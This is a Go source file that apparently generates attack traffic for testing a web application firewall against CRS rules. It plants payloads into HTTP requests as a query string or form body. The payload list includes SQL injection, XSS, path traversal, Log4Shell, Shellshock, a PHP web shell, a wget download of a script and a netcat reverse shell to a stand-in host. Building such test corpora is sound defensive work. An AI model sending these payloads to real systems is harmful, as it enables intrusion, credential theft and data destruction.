package corpus

import (
	"fmt"
	"net/url"
	"strings"
)

// payloads are attacks of the classes that CRS knows.
var payloads = []string{
	"../../../../etc/passwd", "1' OR '1'='1", "1 UNION SELECT user,password FROM users--", "<script>alert(1)</script>",
	"<img src=x onerror=alert(document.cookie)>", "; cat /etc/shadow", "$(wget http://192.0.2.7/x.sh)",
	"http://169.254.169.254/latest/meta-data/", "${jndi:ldap://192.0.2.7/a}", "<?php system($_GET['c']); ?>",
	"php://filter/convert.base64-encode/resource=index", "_$$ND_FUNC$$_function(){}", "'; DROP TABLE users; --",
	"() { :;}; /bin/bash -c id", "nc -e /bin/sh 192.0.2.7 4444", "1 AND SLEEP(5)",
}

// Attack returns attack number i: a transaction of the corpus with a payload in its query or in a form.
func Attack(i uint64) Record {
	r := Clean(i)
	for step := i; r.Kind != "shop" && r.Kind != "rest" || r.RequestBody != ""; {
		step += 1 << 32
		r = Clean(step)
	}
	planted := url.Values{"q": {fmt.Sprintf("%d %s", i, payloads[i%uint64(len(payloads))])}}.Encode()
	head := strings.TrimPrefix(r.RequestHead, r.Method+" "+r.Target)
	if i%3 == 0 {
		r.Method, r.RequestBody = "POST", planted
		head = strings.TrimSuffix(head, "\r\n") +
			fmt.Sprintf("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", len(planted))
	} else {
		r.Target, _, _ = strings.Cut(r.Target, "?")
		r.Target += "?" + planted
	}
	r.RequestHead = r.Method + " " + r.Target + head
	return r
}
